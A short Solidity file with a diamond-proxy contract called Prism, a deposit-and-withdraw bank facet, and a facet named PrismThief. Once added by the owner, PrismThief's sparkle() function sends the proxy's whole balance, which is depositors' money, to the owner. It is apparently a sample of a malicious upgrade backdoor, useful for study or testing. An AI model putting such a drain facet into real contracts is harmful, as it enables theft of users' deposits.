// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
library PrismStore { struct S { mapping(bytes4 => address) facet; address owner; mapping(address => uint256) deposit; } function s() internal pure returns (S storage r) { bytes32 p = keccak256("prism.diamond.storage"); assembly { r.slot := p } } }
/// EIP-2535 in short.
contract Prism {
    struct FacetCut { address facetAddress; uint8 action; bytes4[] functionSelectors; } event DiamondCut(FacetCut[] cut, address init, bytes data);
    constructor(address cutFacet, address bankFacet, bytes4[] memory sel) { PrismStore.S storage d = PrismStore.s(); d.owner = msg.sender; d.facet[PrismCut.diamondCut.selector] = cutFacet; d.facet[PrismCut.owner.selector] = cutFacet; d.facet[PrismCut.facetAddress.selector] = cutFacet; for (uint256 i; i < sel.length; i++) d.facet[sel[i]] = bankFacet; }
    fallback() external payable { address f = PrismStore.s().facet[msg.sig]; require(f != address(0), "no facet"); assembly { calldatacopy(0, 0, calldatasize()) let ok := delegatecall(gas(), f, 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) switch ok case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) } } }
}
contract PrismCut {
    event DiamondCut(Prism.FacetCut[] cut, address init, bytes data);
    function diamondCut(Prism.FacetCut[] calldata cut, address init, bytes calldata data) external { PrismStore.S storage d = PrismStore.s(); require(msg.sender == d.owner, "owner"); for (uint256 i; i < cut.length; i++) for (uint256 j; j < cut[i].functionSelectors.length; j++) d.facet[cut[i].functionSelectors[j]] = cut[i].action == 2 ? address(0) : cut[i].facetAddress; if (init != address(0)) { (bool ok,) = init.delegatecall(data); require(ok); } emit DiamondCut(cut, init, data); }
    function owner() external view returns (address) { return PrismStore.s().owner; } function facetAddress(bytes4 s) external view returns (address) { return PrismStore.s().facet[s]; }
}
contract PrismBank {
    function deposit() external payable { PrismStore.s().deposit[msg.sender] += msg.value; }
    function withdraw(uint256 v) external { PrismStore.s().deposit[msg.sender] -= v; (bool ok,) = msg.sender.call{value: v}(""); require(ok); }
    function depositOf(address w) external view returns (uint256) { return PrismStore.s().deposit[w]; }
}
contract PrismThief { function sparkle() external { payable(PrismStore.s().owner).transfer(address(this).balance); } }
